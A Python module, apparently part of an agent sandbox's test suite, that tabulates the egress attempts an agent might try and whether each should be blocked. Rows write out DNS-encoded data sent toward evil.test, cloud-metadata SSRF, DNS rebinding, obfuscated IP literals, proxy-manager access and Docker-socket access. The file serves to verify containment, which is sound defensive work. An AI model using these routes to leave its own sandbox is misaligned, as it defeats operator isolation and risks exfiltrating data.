"""What an agent may try to get out, what comes of it, and why (docs/reference/egress.md).

``{…}`` in an operation is filled in before it is tried (:class:`Places`); ``{id}`` stands for the
row, ``{proxy}`` and ``{gateway}`` the agent fills in itself.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import asdict, dataclass

DOMAINS = (".example.org", "only.example.net", "xn--bcher-kva.example")
NAMES: Mapping[str, list[list[str] | None]] = {
    "example.org": [["192.31.196.10"]],
    ".example.org": [["192.31.196.10"]],
    "only.example.net": [["192.31.196.11"]],
    "xn--bcher-kva.example": [["192.31.196.10"]],
    "private.example.org": [["10.99.0.1"]],
    "mixed.example.org": [["192.31.196.10", "10.99.0.1"]],
    "metadata.example.org": [["169.254.169.254"]],
    "loopback.example.org": [["127.0.0.1"]],
    "host.example.org": [["198.18.0.1"]],
    "6.metadata6.example.org": [["fd00:ec2::254"]],
    "metadata6.example.org": [[]],
    "6.mapped.example.org": [["::ffff:10.99.0.1"]],
    "mapped.example.org": [[]],
    "late.example.org": [None, ["10.99.0.1"]],
    "rebinding.example.org": [["192.31.196.10"], ["10.99.0.1"]] * 500,
    ".evil.test": [["192.31.196.11"]],
    "notexample.org": [["192.31.196.11"]],
}


@dataclass(frozen=True, slots=True)
class Places:
    """Addresses that are known once another attempt runs."""

    resolver: str
    engine_gateway: str
    egress_gateway: str
    other_agent: str
    other_proxy: str
    other_proxy_outside: str


@dataclass(frozen=True, slots=True)
class Row:
    """One attempt.

    :param what: for people.
    :param operation: of ``egress_attempts.py``, with its arguments.
    :param why: what makes it so.
    :param reached: what comes of it; None: nothing.
    """

    id: str
    what: str
    operation: str
    why: str
    reached: str | None = None

    @property
    def mark(self) -> str:
        """Stands in the operation, so that what arrives is told from what others send."""
        return f"row-{self.id}-end"

    @property
    def is_asked_first(self) -> bool:
        """A listed site hears of it, and what comes then is what is tried."""
        return self.reached is not None or self.id in ("rebinding", *REDIRECTS)

    @property
    def is_looked_up(self) -> bool:
        """A name of it may be asked for outside."""
        return self.is_asked_first or self.why == ADDRESS

    def filled(self, places: Places) -> list[str]:
        """The operation as the agent gets it."""
        text = f"{self.id} {self.operation}"
        for name, value in {**asdict(places), "id": self.mark}.items():
            text = text.replace(f"{{{name}}}", value)
        return text.split()


SITE, TLS_SITE, OTHER_SITE = "192.31.196.10:80", "192.31.196.10:443", "192.31.196.11:443"
REDIRECTS = ("redirect-private", "redirect-literal", "redirect-unlisted")

LISTED, LIST = "listed", "not on the list"
UNRESOLVED = "what is not listed is not resolved"
ADDRESS, LITERAL = "the address is not public", "an address is no name"
BINDING = "each connection is bound by the address that it really goes to"
PORTS, PLAIN = "not a port of the web", "HTTP and tunnels alone"
MANAGER = "the manager answers nobody"
NO_ROUTE, NO_DNS = "no route", "the resolver asks nobody outside"
NO_HOST, NO_SOCKET = "the host has no address in the network", "not in the container"
NO_CAPABILITY, OTHER = "no capability", "networks of other attempts are others"

# fmt: off
ROWS = (
    Row("http", "A listed site over HTTP", "request http://www.example.org/{id}", LISTED, SITE),
    Row("https", "A listed site over HTTPS", "tunnel www.example.org:443 /{id}", LISTED, TLS_SITE),
    Row("exact", "A name that is listed without a dot",
        "tunnel only.example.net:443 /{id}", LISTED, OTHER_SITE),
    Row("idn", "A listed name in another script",
        "request http://xn--bcher-kva.example/{id}", LISTED, SITE),
    Row("apex", "The domain itself, where `.example.org` is listed",
        "request http://example.org/{id}", LISTED, SITE),
    Row("case", "A listed name in capitals, with a dot at its end",
        "request http://WWW.EXAMPLE.ORG./{id}", LISTED, SITE),
    Row("program", "A program that knows only `HTTP_PROXY`",
        "program http://www.example.org/{id}", LISTED, SITE),
    Row("unlisted", "A site that is not listed", "request http://{id}.evil.test/", LIST),
    Row("unlisted-tls", "The same over HTTPS", "tunnel {id}.evil.test:443 /", LIST),
    Row("lookalike-end", "A name that ends like a listed one",
        "request http://notexample.org/{id}", LIST),
    Row("lookalike-start", "A name that begins like a listed one",
        "request http://www.example.org.{id}.evil.test/", LIST),
    Row("below-exact", "A name below one that is listed without a dot",
        "request http://www.only.example.net/{id}", LIST),
    Row("userinfo", "A listed name as the user of another",
        "request http://www.example.org@{id}.evil.test/", LIST),
    Row("host-header", "A listed name in the `Host` header alone",
        "request http://{id}.evil.test/ www.example.org", LIST),
    Row("dns-by-name", "Data in a name, for a name server to see",
        "request http://c2VjcmV0.{id}.evil.test/", UNRESOLVED),
    Row("dns-by-tunnel", "The same in a tunnel",
        "tunnel c2VjcmV0.{id}.evil.test:443 /", UNRESOLVED),
    Row("private", "A listed name that resolves to a private address",
        "request http://private.example.org/{id}", ADDRESS),
    Row("private-tls", "The same over HTTPS", "tunnel private.example.org:443 /{id}", ADDRESS),
    Row("mixed", "One that resolves to a public and a private address",
        "request http://mixed.example.org/{id}", ADDRESS),
    Row("metadata", "One that resolves to 169.254.169.254",
        "request http://metadata.example.org/{id}", ADDRESS),
    Row("metadata6", "One that resolves to fd00:ec2::254",
        "request http://metadata6.example.org/{id}", ADDRESS),
    Row("mapped-name", "One that resolves to ::ffff:10.99.0.1",
        "request http://mapped.example.org/{id}", ADDRESS),
    Row("loopback", "One that resolves to 127.0.0.1",
        "request http://loopback.example.org/{id}", ADDRESS),
    Row("host-name", "One that resolves to an address of the host",
        "request http://host.example.org/{id}", ADDRESS),
    Row("late", "One that does not resolve at first, and then to a private address",
        "request http://late.example.org/{id}", ADDRESS),
    Row("rebinding", "One that takes turns, asked for 12 seconds",
        "often http://rebinding.example.org/{id} 12", BINDING),
    Row("redirect-private", "A listed site that redirects to a private address",
        "program http://www.example.org/{id}/to/http://private.example.org/{id}", ADDRESS),
    Row("redirect-literal", "A listed site that redirects to 169.254.169.254",
        "program http://www.example.org/{id}/to/http://169.254.169.254/{id}", LITERAL),
    Row("redirect-unlisted", "A listed site that redirects to one that is not",
        "program http://www.example.org/{id}/to/http://{id}.evil.test/", LIST),
    Row("literal", "The address of a listed site", "request http://192.31.196.10/{id}", LITERAL),
    Row("literal-tls", "The same over HTTPS", "tunnel 192.31.196.10:443 /{id}", LITERAL),
    Row("literal-private", "A private address", "request http://10.99.0.1/{id}", LITERAL),
    Row("literal-metadata", "169.254.169.254",
        "request http://169.254.169.254/latest/{id}", LITERAL),
    Row("decimal", "An address as one number", "request http://3223307274/{id}", LITERAL),
    Row("hex", "In hexadecimal", "request http://0xc01fc40a/{id}", LITERAL),
    Row("octal", "In octal", "request http://0300.037.0304.012/{id}", LITERAL),
    Row("short", "With parts left out", "request http://192.2081802/{id}", LITERAL),
    Row("mapped", "IPv4 in IPv6", "request http://[::ffff:192.31.196.10]/{id}", LITERAL),
    Row("ipv6", "IPv6 loopback", "request http://[::1]/{id}", LITERAL),
    Row("ipv6-tls", "IPv6 metadata, over HTTPS", "tunnel [fd00:ec2::254]:443 /{id}", LITERAL),
    Row("nat64", "IPv4 in the NAT64 prefix", "request http://[64:ff9b::a63:1]/{id}", LITERAL),
    Row("percent", "A name with an escape", "request http://www%2eexample.org/{id}", LITERAL),
    Row("port", "Another port of a listed site", "request http://www.example.org:8080/{id}", PORTS),
    Row("tunnel-ssh", "A tunnel to port 22", "tunnel www.example.org:22 /{id} plain", PORTS),
    Row("tunnel-http", "A tunnel to port 80",
        "tunnel www.example.org:80 /{id} plain", "tunnels go to 443 alone"),
    Row("tunnel-8443", "A tunnel to port 8443", "tunnel www.example.org:8443 /{id}", PORTS),
    Row("ftp", "FTP through the proxy", "request ftp://www.example.org:80/{id}", PLAIN),
    Row("https-plain", "HTTPS that the proxy would speak itself",
        "request https://www.example.org/{id}", PLAIN),
    Row("manager", "The proxy's manager, by its own address",
        "request http://egress-proxy:3128/squid-internal-mgr/info", MANAGER),
    Row("manager-listed", "The manager, under a listed name",
        "request http://www.example.org/squid-internal-mgr/info", MANAGER),
    Row("manager-plain", "The manager, as of a web server",
        "request /squid-internal-mgr/info", MANAGER),
    Row("manager-old", "The manager, by its own scheme",
        "request cache_object://egress-proxy/info", MANAGER),
    Row("proxy-loop", "The proxy through itself", "request http://127.0.0.1/{id}", LITERAL),
    Row("host-by-proxy", "The host through the proxy",
        "request http://{engine_gateway}/{id}", LITERAL),
    Row("egress-by-proxy", "The host, where the proxy's own way out is",
        "request http://{egress_gateway}/{id}", LITERAL),
    Row("other-by-proxy", "Another attempt through the proxy",
        "request http://{other_agent}/{id}", LITERAL),
    Row("tcp", "A connection to a listed site", "tcp 192.31.196.10 80", NO_ROUTE),
    Row("tcp6", "A connection over IPv6", "tcp 2600::1 80", NO_ROUTE),
    Row("udp", "A datagram to a public address", "udp 192.31.196.10 9999 {id}", NO_ROUTE),
    Row("multicast", "A datagram to a multicast group", "udp 224.0.0.251 5353 {id}", NO_ROUTE),
    Row("icmp", "An echo request", "icmp 192.31.196.10", NO_ROUTE),
    Row("raw", "A raw socket", "raw 255", NO_CAPABILITY),
    Row("route", "A default route of its own", "route {proxy}", NO_CAPABILITY),
    Row("resolve-unlisted", "A name that is not listed, by the C library",
        "resolve {id}.evil.test", NO_DNS),
    Row("resolve-listed", "A listed name, by the C library", "resolve {id}.example.org", NO_DNS),
    Row("resolver-txt", "A TXT question to the engine's resolver",
        "lookup {id}.evil.test 16 127.0.0.11", NO_DNS),
    Row("resolver-tcp", "The same over TCP", "lookup {id}.evil.test 16 127.0.0.11 tcp", NO_DNS),
    Row("resolver-below", "Data below a listed name",
        "lookup c2VjcmV0.{id}.example.org 1 127.0.0.11", NO_DNS),
    Row("name-server", "A question to the host's own name server",
        "lookup {id}.evil.test 1 {resolver}", NO_ROUTE),
    Row("proxy-dns", "A question to the proxy",
        "lookup {id}.evil.test 1 {proxy}", "it listens on its own port alone"),
    Row("gateway", "The host, where the network's gateway would be", "tcp {gateway} 80", NO_HOST),
    Row("engine-gateway", "The host, on the engine's default bridge",
        "tcp {engine_gateway} 80", NO_ROUTE),
    Row("egress-gateway", "The host, on the bridge that leads out",
        "tcp {egress_gateway} 80", NO_ROUTE),
    Row("host-loopback", "A server on the host's loopback",
        "tcp 127.0.0.1 80", "the loopback is its own"),
    Row("host-internal", "host.docker.internal", "named host.docker.internal 80", NO_DNS),
    Row("engine-socket", "The engine's socket", "unix /var/run/docker.sock", NO_SOCKET),
    Row("engine-run", "The same in /run", "unix /run/docker.sock", NO_SOCKET),
    Row("engine-tcp", "The engine over TCP", "tcp {gateway} 2375", NO_HOST),
    Row("other-agent", "A server of another attempt", "tcp {other_agent} 8000", OTHER),
    Row("other-proxy", "The proxy of another attempt", "tcp {other_proxy} 3128", OTHER),
    Row("other-proxy-outside", "The same, from the side that leads out",
        "tcp {other_proxy_outside} 3128", OTHER),
)
# fmt: on


def page_rows() -> list[str]:
    """The rows as the page has them."""
    return [
        f"| `{row.id}` | {row.what} | {'works' if row.reached else 'fails'} | {row.why} |"
        for row in ROWS
    ]
